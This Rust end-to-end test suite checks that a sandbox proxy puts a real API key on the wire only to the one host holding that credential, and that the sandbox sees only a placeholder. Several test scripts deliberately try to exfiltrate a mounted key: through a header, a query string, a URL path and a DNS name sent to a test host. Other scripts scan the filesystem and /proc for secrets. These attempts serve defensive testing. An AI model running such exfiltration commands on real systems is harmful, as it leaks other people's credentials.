//! Credentials the sandbox never holds (`docs/src/guide/credentials.md`): the program sends
//! `$API_KEY`, which holds a placeholder; the proxy puts the real key on the wire to the one
//! host of the credential. curl, Python (urllib, requests, httpx) and git go through
//! HTTPS_PROXY, Node (no proxy support) takes the transparent path; all trust the run CA with
//! no flags, also through the image's own bundle path with every trust variable unset. Other
//! hosts never get the key; a placeholder sent elsewhere is `credential_misuse`; a host that is
//! not inspected is a plain tunnel; `http://` to the credential host is upgraded to TLS. The
//! same through `serve` (`run --server`, and the API's `secrets`). An upstream that hands the
//! key back reaches the program as the placeholder; a key the sandbox holds by mistake cannot
//! leave.

use std::path::{Path, PathBuf};

use egress_serve::client::{Client, ClientError};
use serde_json::json;

use crate::serve::Daemon;
use crate::support::servers::ECHO_AUTHORIZATION;
use crate::support::{GoSignal, Run, TestNetwork, Upstream, docker_ok, gateway_policy, random_hex};

const HOST: &str = "api.cred.test";
/// Matches any secret these tests make (`sk-e2e-` + 16 hex digits) without being one, so a
/// search inside the sandbox never carries the secret in its own arguments.
const SECRET_PATTERN: &str = "sk-e2e-[0-9a-f]{16}";
/// The variables that point TLS clients at the run's bundle.
const TRUST_VARIABLES: &str = "-u SSL_CERT_FILE -u REQUESTS_CA_BUNDLE -u CURL_CA_BUNDLE -u NODE_EXTRA_CA_CERTS -u GIT_SSL_CAINFO";

fn new_secret() -> String {
    format!("sk-e2e-{}", random_hex())
}

/// A PEM file in a fresh directory (kept alive by the returned guard).
fn pem_file(pem: &str) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("upstream-ca.pem");
    std::fs::write(&file, pem).unwrap();
    (dir, file)
}

/// A body that is also a dumb-HTTP `info/refs` (one ref), so `git ls-remote` prints it
/// as it is, as curl and the others do.
fn refs_body() -> String {
    format!(
        "{}\trefs/heads/cred-{}\n",
        "c0ffee".repeat(7)[..40].to_owned(),
        random_hex()
    )
}

/// Asserts that none of `texts` (what, text) holds `secret`.
fn assert_absent(secret: &str, texts: &[(&str, &str)]) {
    for (what, text) in texts {
        assert!(!text.contains(secret), "the secret is in {what}");
    }
}

#[test]
fn the_upstream_gets_the_key_and_the_sandbox_only_a_placeholder() {
    let network = TestNetwork::create();
    let body = refs_body();
    let (upstream, ca_pem) = Upstream::https_with_test_ca((network.gateway, 443), &[HOST], &body);
    let secret = new_secret();
    let (_ca_dir, ca_file) = pem_file(&ca_pem);
    let mut yaml = gateway_policy("creds", network.gateway, &[443], &[(HOST, 443)]);
    yaml += &format!("credentials:\n  - host: {HOST}\n    secret: API_KEY\n");
    let signal = GoSignal::new();
    let auth = r#"{"Authorization": "Bearer " + os.environ["API_KEY"]}"#;
    let script = format!(
        r#"env; echo; tr '\0' '\n' < /proc/self/environ; echo
curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" https://{HOST}/curl; echo
python3 -c 'import os, urllib.request as u; print(u.urlopen(u.Request("https://{HOST}/python", headers={auth}), timeout=20).read().decode())'
python3 -c 'import os, requests; print(requests.get("https://{HOST}/requests", headers={auth}, timeout=20).text)'
python3 -c 'import os, httpx; print(httpx.get("https://{HOST}/httpx", headers={auth}, timeout=20).text)'
node -e 'require("https").get("https://{HOST}/node", {{headers: {{Authorization: "Bearer " + process.env.API_KEY}}}}, (r) => {{ let b = ""; r.on("data", (d) => b += d); r.on("end", () => console.log(b)); }}).on("error", (e) => {{ console.log("node: " + e.message); process.exitCode = 1; }})'
git ls-remote https://{HOST}/git.git
env {TRUST_VARIABLES} curl -sS --max-time 20 https://{HOST}/curl-system-bundle; echo
env {TRUST_VARIABLES} python3 -c 'import urllib.request as u; print(u.urlopen("https://{HOST}/python-system-bundle", timeout=20).read().decode())'
cmp /etc/ssl/certs/ca-certificates.crt /etc/egress-sandbox/ca-bundle.crt && echo SAME-BUNDLE
echo ROOTS=$(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt)
(true > /etc/ssl/certs/ca-certificates.crt) 2>/dev/null || echo BUNDLE-READ-ONLY
for d in /*; do case $d in /proc|/sys|/dev) ;; *) grep -rlE '{SECRET_PATTERN}' "$d" 2>/dev/null;; esac; done | grep -q . && echo SECRET-SHAPED-FILE || echo NO-SECRET-IN-FILES
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -qE '{SECRET_PATTERN}' && echo SECRET-IN-PROC || echo NO-SECRET-IN-PROC
echo REACHED; {}"#,
        GoSignal::WAIT
    );

    let mut running = Run::new(&network)
        .policy(&yaml)
        .caller_env("API_KEY", &secret)
        .option("--secret", "API_KEY")
        .option("--upstream-ca", &ca_file)
        .resolve(HOST, network.gateway)
        .option("--mount", signal.mount())
        .timeout("100s")
        .arg("-vv")
        .spawn(&["sh", "-c", &script]);
    running.wait_for_stdout("REACHED");
    let proxy = running.proxy_container();
    let sandbox = proxy.trim_end_matches("-proxy").to_string() + "-sandbox";
    let inspected = docker_ok(&["inspect", &proxy, &sandbox]);
    signal.go();
    let run = running.wait();

    run.assert_code(0);
    assert!(inspected.contains(&proxy), "{inspected}");
    assert!(inspected.contains(&sandbox), "{inspected}");
    assert_absent(&secret, &[("docker inspect", &inspected)]);
    let reached: Vec<&str> = run
        .stdout
        .lines()
        .filter(|line| *line == body.trim_end())
        .collect();
    assert_eq!(
        reached.len(),
        8,
        "curl, urllib, requests, httpx, node, git, and curl and urllib with only the image's \
         bundle path each reached the upstream\n{}",
        run.describe()
    );
    for marker in [
        "SAME-BUNDLE",
        "BUNDLE-READ-ONLY",
        "NO-SECRET-IN-FILES",
        "NO-SECRET-IN-PROC",
    ] {
        assert!(
            run.stdout.contains(marker),
            "no {marker}\n{}",
            run.describe()
        );
    }
    let roots: usize = run
        .stdout
        .lines()
        .find_map(|line| line.strip_prefix("ROOTS="))
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(
        roots > 100,
        "the bundle holds the image's roots and the run CA ({roots} certificates)"
    );
    let placeholder = run
        .stdout
        .lines()
        .find_map(|line| line.strip_prefix("API_KEY="))
        .unwrap_or_else(|| panic!("no API_KEY in the sandbox's env\n{}", run.describe()))
        .to_string();
    assert_ne!(placeholder, secret);
    let requests = upstream.requests();
    for path in [
        "/curl",
        "/python",
        "/requests",
        "/httpx",
        "/node",
        "/git.git/info/refs",
        "/curl-system-bundle",
        "/python-system-bundle",
    ] {
        assert!(
            requests
                .iter()
                .any(|request| request.head.starts_with(&format!("GET {path} "))
                    || request.head.starts_with(&format!("GET {path}?"))),
            "no request for {path}: {requests:?}"
        );
    }
    for request in &requests {
        assert!(
            request.head.contains(&format!("Bearer {secret}")),
            "the upstream did not get the key: {}",
            request.head
        );
        assert!(!request.head.contains(&placeholder), "{}", request.head);
    }
    let audit = std::fs::read_to_string(run.audit_log_path()).unwrap();
    let report = run.report_text.clone().unwrap_or_default();
    assert_absent(
        &secret,
        &[
            ("the sandbox's output", &run.stdout),
            ("stderr (-vv)", &run.stderr),
            ("the audit log", &audit),
            ("the report", &report),
        ],
    );
    let credited = run.audit_where(|record| {
        record["host"] == HOST && record["credential"] == "API_KEY" && record["status"] == 200
    });
    assert_eq!(credited.len(), requests.len(), "{}", run.describe());
    run.assert_nothing_left();
}

const TUNNELLED: &str = "tunnel.cred.test";
const PLAIN: &str = "plain.cred.test";
const RULED: &str = "ruled.cred.test";

#[test]
fn other_hosts_never_get_the_key_and_a_placeholder_sent_there_is_misuse() {
    let network = TestNetwork::create();
    let gateway = network.gateway;
    let (api, api_ca) = Upstream::https_with_test_ca((gateway, 443), &[HOST], "api-body\n");
    // Inspected (a methods rule) but no credential; its certificate from the same test CA.
    let (ruled, ruled_ca) = Upstream::https_with_test_ca((gateway, 9443), &[RULED], "ruled\n");
    // Not inspected: a tunnel, with a certificate from a CA only the program is given.
    let (tunnelled, tunnel_ca) =
        Upstream::https_with_test_ca((gateway, 8443), &[TUNNELLED], "tunnelled\n");
    let plain = Upstream::http((gateway, 8080), "plain\n");
    let secret = new_secret();
    let ca_dir = tempfile::tempdir().unwrap();
    let upstream_ca = ca_dir.path().join("upstream-ca.pem");
    std::fs::write(&upstream_ca, format!("{api_ca}{ruled_ca}")).unwrap();
    let task_dir = GoSignal::new();
    let signal_path = task_dir.mount();
    let shared = signal_path.split(':').next().unwrap();
    std::fs::write(Path::new(shared).join("tunnel-ca.pem"), &tunnel_ca).unwrap();
    let yaml = format!(
        "version: 1
name: misuse
allow:
  - host: {HOST}
    ports: [443]
  - host: {RULED}
    ports: [9443]
    methods: [GET]
  - host: {TUNNELLED}
    ports: [8443]
  - host: {PLAIN}
    ports: [8080]
  - cidr: {gateway}/32
    ports: [443, 8080, 8443, 9443]
credentials:
  - host: {HOST}
    secret: API_KEY
tls:
  ports: [443, 8443, 9443]
"
    );
    let bearer = r#"-H "Authorization: Bearer $API_KEY""#;
    let script = format!(
        r#"set -u
echo "tunnel-with-placeholder: $(curl -sS --max-time 20 --cacert /go-signal/tunnel-ca.pem {bearer} https://{TUNNELLED}:8443/placeholder)"
echo "tunnel-with-run-ca: $(curl -sS --max-time 20 https://{TUNNELLED}:8443/run-ca 2>&1 >/dev/null | head -c 200)"
echo "plain-with-placeholder: $(curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' {bearer} http://{PLAIN}:8080/placeholder)"
echo "plain-own-key: $(curl -sS --max-time 20 -H 'Authorization: Bearer mine' http://{PLAIN}:8080/own)"
echo "ruled-with-placeholder: $(curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' {bearer} https://{RULED}:9443/placeholder)"
echo "ruled-own-key: $(curl -sS --max-time 20 -H 'Authorization: Bearer mine' https://{RULED}:9443/own)"
echo "ruled-placeholder-in-query: $(curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' "https://{RULED}:9443/q?key=$API_KEY")"
echo "upgraded: $(curl -sS --max-time 20 {bearer} http://{HOST}/upgraded)"
"#
    );
    let run = Run::new(&network)
        .policy(&yaml)
        .caller_env("API_KEY", &secret)
        .option("--secret", "API_KEY")
        .option("--upstream-ca", &upstream_ca)
        .resolve(HOST, gateway)
        .resolve(RULED, gateway)
        .resolve(TUNNELLED, gateway)
        .resolve(PLAIN, gateway)
        .option("--mount", &signal_path)
        .timeout("60s")
        .arg("-vv")
        .run(&["sh", "-c", &script]);
    run.assert_code(0);
    let said = |prefix: &str| -> String {
        run.stdout
            .lines()
            .find_map(|line| line.strip_prefix(prefix))
            .unwrap_or_else(|| panic!("no {prefix}\n{}", run.describe()))
            .trim()
            .to_string()
    };
    // The tunnel: the upstream's own certificate (the program's own CA file verifies it, the
    // run's bundle does not), and what the program sent arrives as it was: the placeholder.
    assert_eq!(
        said("tunnel-with-placeholder:"),
        "tunnelled",
        "{}",
        run.describe()
    );
    let refused_tls = said("tunnel-with-run-ca:");
    assert!(
        refused_tls.contains("certificate") || refused_tls.contains("SSL"),
        "the run CA's bundle must not verify the tunnelled upstream: {refused_tls}"
    );
    let tunnel_heads: Vec<String> = tunnelled.requests().into_iter().map(|r| r.head).collect();
    assert_eq!(tunnel_heads.len(), 1, "{tunnel_heads:?}");
    assert!(!tunnel_heads[0].contains(&secret), "{tunnel_heads:?}");
    assert!(tunnel_heads[0].contains("Bearer egress-sandbox-placeholder-"));
    // Seen by the proxy (plain HTTP; an inspected host without the credential): a
    // placeholder there is refused, and the host never sees that request.
    assert_eq!(said("plain-with-placeholder:"), "403");
    assert_eq!(said("ruled-with-placeholder:"), "403");
    assert_eq!(said("ruled-placeholder-in-query:"), "403");
    assert_eq!(said("plain-own-key:"), "plain");
    assert_eq!(said("ruled-own-key:"), "ruled");
    for (what, upstream) in [("plain", &plain), ("ruled", &ruled)] {
        let heads: Vec<String> = upstream.requests().into_iter().map(|r| r.head).collect();
        assert_eq!(heads.len(), 1, "{what}: {heads:?}");
        assert!(heads[0].contains("Bearer mine"), "{what}: {heads:?}");
        assert!(!heads[0].contains(&secret), "{what}: {heads:?}");
        assert!(!heads[0].contains("placeholder"), "{what}: {heads:?}");
    }
    // http:// to the credential host went upstream over TLS, with the key.
    assert_eq!(said("upgraded:"), "api-body");
    let api_requests = api.requests();
    assert_eq!(api_requests.len(), 1, "{api_requests:?}");
    assert_eq!(api_requests[0].sni.as_deref(), Some(HOST), "TLS upstream");
    assert!(api_requests[0].head.starts_with("GET /upgraded "));
    assert!(api_requests[0].head.contains(&format!("Bearer {secret}")));

    let misuse = run.audit_where(|record| {
        record["decision"] == "blocked" && record["reason"] == "credential_misuse"
    });
    assert_eq!(misuse.len(), 3, "{}", run.describe());
    let blocked = run.report()["blocked"].to_string();
    assert!(blocked.contains("credential_misuse"), "{blocked}");
    assert!(
        !run.audit_text.contains("key="),
        "the query string is never logged"
    );
    let report = run.report_text.clone().unwrap_or_default();
    assert_absent(
        &secret,
        &[
            ("the sandbox's output", &run.stdout),
            ("stderr (-vv)", &run.stderr),
            ("the audit log", &run.audit_text),
            ("the report", &report),
        ],
    );
    run.assert_nothing_left();
}

#[test]
fn serve_takes_secrets_like_a_cold_run() {
    let network = TestNetwork::create();
    let (upstream, ca_pem) =
        Upstream::https_with_test_ca((network.gateway, 443), &[HOST], "served\n");
    let secret = new_secret();
    let (_ca_dir, ca_file) = pem_file(&ca_pem);
    let mut yaml = gateway_policy("creds", network.gateway, &[443], &[(HOST, 443)]);
    yaml += &format!("credentials:\n  - host: {HOST}\n    secret: API_KEY\n");
    let daemon = Daemon::start_verbose();

    // `run --server` reads --secret and --upstream-ca here and sends them to the daemon.
    let run = Run::new(&network)
        .policy(&yaml)
        .caller_env("API_KEY", &secret)
        .option("--secret", "API_KEY")
        .option("--upstream-ca", &ca_file)
        .resolve(HOST, network.gateway)
        .option("--server", &daemon.socket)
        .arg("-vv")
        .run(&[
            "sh",
            "-c",
            &format!(
                r#"echo "placeholder: $API_KEY"; curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" https://{HOST}/served"#
            ),
        ]);
    run.assert_code(0);
    assert!(run.stdout.contains("served"), "{}", run.describe());
    assert!(
        run.stdout
            .contains("placeholder: egress-sandbox-placeholder-")
    );
    let requests = upstream.requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert!(requests[0].head.contains(&format!("Bearer {secret}")));
    let credited = run.audit_where(|record| record["credential"] == "API_KEY");
    assert_eq!(credited.len(), 1, "{}", run.describe());

    // The API: `secrets` by value; a missing or unused one is a 400 naming the field.
    let client = Client::new(&daemon.socket);
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let request = |secrets: serde_json::Value| {
        json!({
            "argv": ["true"],
            "policies": [yaml.clone()],
            "secrets": secrets,
            "upstream_ca": [ca_pem.clone()],
            "egress_network": network.name,
        })
    };
    for (secrets, why) in [
        (json!({}), "needs the secret API_KEY"),
        (
            json!({"API_KEY": secret, "OTHER": secret}),
            "has OTHER, but no credential",
        ),
    ] {
        let body = serde_json::to_vec(&request(secrets)).unwrap();
        let answer = runtime.block_on(client.run_raw(body.into(), |_| Ok(true)));
        match answer {
            Err(ClientError::Refused { refusal, .. }) => {
                assert_eq!(refusal.field, "secrets", "{refusal:?}");
                assert!(refusal.error.contains(why), "{refusal:?}");
                assert!(!refusal.error.contains(&secret), "{refusal:?}");
            }
            other => panic!("not refused: {other:?}"),
        }
    }
    // The clients: `secrets` and `upstream_ca` as arguments; the key comes from their env.
    let program = format!(
        r#"curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" https://{HOST}/client"#
    );
    let clients = Path::new(env!("CARGO_MANIFEST_DIR")).join("clients");
    let python = format!(
        r#"import json, os, sys
sys.path.insert(0, sys.argv[1])
from egress_sandbox import Client
result = Client(sys.argv[2]).run(["sh", "-c", sys.argv[3]], policies=[sys.argv[4]],
    secrets={{"API_KEY": os.environ["API_KEY"]}}, upstream_ca=[sys.argv[5]],
    resolve={{"{HOST}": sys.argv[6]}}, egress_network=sys.argv[7], timeout=60)
print(json.dumps({{"exit_code": result.exit_code, "stdout": result.stdout.decode()}}))"#
    );
    let node = format!(
        r#"const [clientPath, socket, program, policy, ca, gateway, network] = process.argv.slice(1);
const {{ Client }} = await import(clientPath);
const result = await new Client(socket).run(["sh", "-c", program], {{ policies: [policy],
  secrets: {{ API_KEY: process.env.API_KEY }}, upstreamCa: [ca],
  resolve: {{ "{HOST}": gateway }}, egressNetwork: network, timeout: 60 }});
console.log(JSON.stringify({{ exit_code: result.exit_code, stdout: result.stdout.toString() }}));"#
    );
    let gateway = network.gateway.to_string();
    for (interpreter, flags, script, client) in [
        ("python3", &["-c"][..], &python, clients.join("python")),
        (
            "node",
            &["--input-type=module", "-e"][..],
            &node,
            clients.join("node/egress-sandbox.mjs"),
        ),
    ] {
        let output = std::process::Command::new(interpreter)
            .args(flags)
            .arg(script)
            .arg(&client)
            .arg(&daemon.socket)
            .args([&program, &yaml, &ca_pem, &gateway, &network.name])
            .env("API_KEY", &secret)
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert!(
            output.status.success(),
            "{interpreter}: {stdout}{}",
            String::from_utf8_lossy(&output.stderr)
        );
        let result: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
        assert_eq!(result["exit_code"], 0, "{interpreter}: {result}");
        assert_eq!(result["stdout"], "served\n", "{interpreter}: {result}");
    }
    let requests = upstream.requests();
    assert_eq!(requests.len(), 3, "{requests:?}");
    for request in &requests {
        assert!(
            request.head.contains(&format!("Bearer {secret}")),
            "{}",
            request.head
        );
    }

    let daemon_log = daemon.stop();
    assert!(daemon_log.contains("DEBUG"), "the daemon logs at -vv");
    let report = run.report_text.clone().unwrap_or_default();
    assert_absent(
        &secret,
        &[
            ("the client's stderr (-vv)", &run.stderr),
            ("the daemon's stderr (-vv)", &daemon_log),
            ("the audit log", &run.audit_text),
            ("the report", &report),
            ("the sandbox's output", &run.stdout),
        ],
    );
    run.assert_nothing_left();
}

/// An image made from the base image without `/etc/ssl/certs/ca-certificates.crt`; removed
/// when dropped.
struct ImageWithoutBundle(String);

impl ImageWithoutBundle {
    fn make() -> ImageWithoutBundle {
        let name = format!("egress-sandbox-e2e-nobundle-{}", random_hex());
        let base = egress_sandbox::BASE_IMAGE;
        docker_ok(&[
            "run",
            "--name",
            &name,
            "--network",
            "none",
            base,
            "rm",
            "/etc/ssl/certs/ca-certificates.crt",
        ]);
        let image = format!("{name}:latest");
        docker_ok(&["commit", &name, &image]);
        docker_ok(&["rm", "-f", &name]);
        ImageWithoutBundle(image)
    }
}

impl Drop for ImageWithoutBundle {
    fn drop(&mut self) {
        let _ = crate::support::docker::docker(&["rmi", "-f", &self.0]);
    }
}

#[test]
fn an_image_without_a_bundle_gets_the_run_ca_alone() {
    let network = TestNetwork::create();
    // The base image first: `run` builds it on first use, `docker run` would not.
    crate::support::run::warm_up(Some(&network.name));
    let image = ImageWithoutBundle::make();
    let (upstream, ca_pem) =
        Upstream::https_with_test_ca((network.gateway, 443), &[HOST], "alone\n");
    let secret = new_secret();
    let (_ca_dir, ca_file) = pem_file(&ca_pem);
    let mut yaml = gateway_policy("creds", network.gateway, &[443], &[(HOST, 443)]);
    yaml += &format!("credentials:\n  - host: {HOST}\n    secret: API_KEY\n");
    let script = format!(
        r#"echo CERTS=$(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt)
cmp /etc/ssl/certs/ca-certificates.crt /etc/egress-sandbox/ca-bundle.crt && echo SAME-BUNDLE
curl -sS --max-time 20 https://{HOST}/alone"#
    );
    let run = Run::new(&network)
        .policy(&yaml)
        .caller_env("API_KEY", &secret)
        .option("--secret", "API_KEY")
        .option("--upstream-ca", &ca_file)
        .option("--image", &image.0)
        .resolve(HOST, network.gateway)
        .run(&["sh", "-c", &script]);
    run.assert_code(0);
    assert!(run.stdout.contains("CERTS=1\n"), "{}", run.describe());
    assert!(run.stdout.contains("SAME-BUNDLE"), "{}", run.describe());
    assert!(run.stdout.contains("alone"), "{}", run.describe());
    let requests = upstream.requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert!(requests[0].head.contains(&format!("Bearer {secret}")));
    run.assert_nothing_left();
}

/// The key handed back by the upstream reaches the program as the placeholder (header and
/// body, counted in the record's `reflected`); the key mounted into the sandbox by mistake
/// is refused wherever the program puts it (a header, a query, a path, a DNS name), and no
/// record, report or output holds it.
#[test]
fn a_key_echoed_back_or_mounted_by_mistake_never_leaves_in_clear() {
    let network = TestNetwork::create();
    let gateway = network.gateway;
    let echo_body = format!("{{\"authorization\": \"{ECHO_AUTHORIZATION}\"}}");
    let (api, api_ca) = Upstream::https_with_test_ca((gateway, 443), &[HOST], &echo_body);
    let plain = Upstream::http((gateway, 8080), "plain\n");
    let secret = new_secret();
    let (_ca_dir, ca_file) = pem_file(&api_ca);
    let mounted = GoSignal::new();
    let mount = mounted.mount();
    let host_dir = mount.split(':').next().unwrap();
    std::fs::write(Path::new(host_dir).join("key"), &secret).unwrap();
    let mut yaml = gateway_policy(
        "echoed",
        gateway,
        &[443, 8080],
        &[(HOST, 443), (PLAIN, 8080)],
    );
    yaml += &format!("credentials:\n  - host: {HOST}\n    secret: API_KEY\n");
    let code = "-o /dev/null -w '%{http_code}'";
    let script = format!(
        r#"set -u
KEY=$(cat /go-signal/key)
curl -sS -i --max-time 20 -H "Authorization: Bearer $API_KEY" https://{HOST}/echo | tr -d '\r' | sed 's/^/echo: /'; echo
echo "header: $(curl -sS --max-time 20 {code} -H "X-Stolen: Bearer $KEY" http://{PLAIN}:8080/h)"
echo "query: $(curl -sS --max-time 20 {code} "http://{PLAIN}:8080/q?k=$KEY")"
echo "path: $(curl -sS --max-time 20 {code} "http://{PLAIN}:8080/$KEY/x")"
python3 -c 'import socket, sys; socket.gethostbyname(sys.argv[1])' "$KEY.{PLAIN}" 2>/dev/null && echo "dns: resolved" || echo "dns: refused"
"#
    );
    let run = Run::new(&network)
        .policy(&yaml)
        .caller_env("API_KEY", &secret)
        .option("--secret", "API_KEY")
        .option("--upstream-ca", &ca_file)
        .resolve(HOST, gateway)
        .resolve(PLAIN, gateway)
        .option("--mount", &mount)
        .timeout("60s")
        .run(&["sh", "-c", &script]);
    run.assert_code(0);
    let echoed: Vec<&str> = run
        .stdout
        .lines()
        .filter_map(|line| line.strip_prefix("echo: "))
        .collect();
    let placeholder_echoed = |line: &&str| line.contains("Bearer egress-sandbox-placeholder-");
    assert!(
        echoed
            .iter()
            .any(|line| line.starts_with("x-echo-auth:") && placeholder_echoed(line)),
        "{}",
        run.describe()
    );
    assert!(
        echoed
            .iter()
            .any(|line| line.starts_with("{\"authorization\"") && placeholder_echoed(line)),
        "{}",
        run.describe()
    );
    let api_heads: Vec<String> = api.requests().into_iter().map(|r| r.head).collect();
    assert_eq!(api_heads.len(), 1, "{api_heads:?}");
    assert!(api_heads[0].contains(&format!("Bearer {secret}")));
    for what in ["header: 403", "query: 403", "path: 403", "dns: refused"] {
        assert!(
            run.stdout.lines().any(|line| line == what),
            "no {what:?}\n{}",
            run.describe()
        );
    }
    assert!(plain.requests().is_empty(), "{:?}", plain.requests());

    let echo = run.audit_where(|record| record["path"] == "/echo");
    assert_eq!(echo.len(), 1, "{}", run.describe());
    assert_eq!(echo[0]["reflected"], 2, "header and body: {}", echo[0]);
    let misuse = run.audit_where(|record| {
        record["decision"] == "blocked" && record["reason"] == "credential_misuse"
    });
    let of_kind = |kind: &str| misuse.iter().filter(|r| r["kind"] == kind).count();
    assert!(of_kind("http") >= 3, "{}", run.describe());
    assert!(of_kind("dns") >= 1, "{}", run.describe());
    assert!(
        misuse.iter().any(|r| r["kind"] == "dns"
            && r["host"]
                .as_str()
                .is_some_and(|host| host.starts_with("«secret:API_KEY»."))),
        "{}",
        run.describe()
    );
    let report = run.report_text.clone().unwrap_or_default();
    assert_absent(
        &secret,
        &[
            ("the sandbox's output", &run.stdout),
            ("stderr", &run.stderr),
            ("the audit log", &run.audit_text),
            ("the report", &report),
        ],
    );
    run.assert_nothing_left();
}

/// An upstream that hands the key back as its status line's reason phrase: curl and Python,
/// through HTTPS_PROXY and through the transparent door, read the canonical phrase instead,
/// and each exchange's record counts it in `reflected`.
#[test]
fn a_key_echoed_in_the_reason_phrase_never_reaches_the_program() {
    let network = TestNetwork::create();
    let (upstream, api_ca) = Upstream::https_with_test_ca_reason(
        (network.gateway, 443),
        &[HOST],
        ECHO_AUTHORIZATION,
        "reason\n",
    );
    let secret = new_secret();
    let (_ca_dir, ca_file) = pem_file(&api_ca);
    let mut yaml = gateway_policy("reason", network.gateway, &[443], &[(HOST, 443)]);
    yaml += &format!("credentials:\n  - host: {HOST}\n    secret: API_KEY\n");
    let auth = r#"{"Authorization": "Bearer " + os.environ["API_KEY"]}"#;
    let python = |path: &str, proxies: &str| {
        format!(
            r#"python3 -c 'import os, urllib.request as u; r = u.build_opener({proxies}).open(u.Request("https://{HOST}{path}", headers={auth}), timeout=20); print("python: HTTP", r.status, r.reason)'"#
        )
    };
    let script = format!(
        r#"set -u
curl -sS -i --suppress-connect-headers --max-time 20 -H "Authorization: Bearer $API_KEY" https://{HOST}/curl | tr -d '\r' | sed 's/^/curl: /'
curl -sS -i --max-time 20 --noproxy '*' -H "Authorization: Bearer $API_KEY" https://{HOST}/curl-transparent | tr -d '\r' | sed 's/^/curl: /'
{}
{}
"#,
        python("/python", ""),
        python("/python-transparent", "u.ProxyHandler({})"),
    );
    let run = Run::new(&network)
        .policy(&yaml)
        .caller_env("API_KEY", &secret)
        .option("--secret", "API_KEY")
        .option("--upstream-ca", &ca_file)
        .resolve(HOST, network.gateway)
        .timeout("60s")
        .run(&["sh", "-c", &script]);
    run.assert_code(0);
    let count = |line: &str| run.stdout.lines().filter(|l| *l == line).count();
    assert_eq!(count("curl: HTTP/1.1 200 OK"), 2, "{}", run.describe());
    assert_eq!(count("python: HTTP 200 OK"), 2, "{}", run.describe());
    let requests = upstream.requests();
    assert_eq!(requests.len(), 4, "{requests:?}");
    for request in &requests {
        assert!(request.head.contains(&format!("Bearer {secret}")));
    }
    let report = run.report_text.clone().unwrap_or_default();
    assert_absent(
        &secret,
        &[
            ("the sandbox's output", &run.stdout),
            ("stderr", &run.stderr),
            ("the audit log", &run.audit_text),
            ("the report", &report),
        ],
    );
    for path in [
        "/curl",
        "/curl-transparent",
        "/python",
        "/python-transparent",
    ] {
        let records = run.audit_where(|record| record["path"] == path);
        assert_eq!(records.len(), 1, "{path}: {}", run.describe());
        assert_eq!(records[0]["reflected"], 1, "{path}: {}", records[0]);
    }
    run.assert_nothing_left();
}
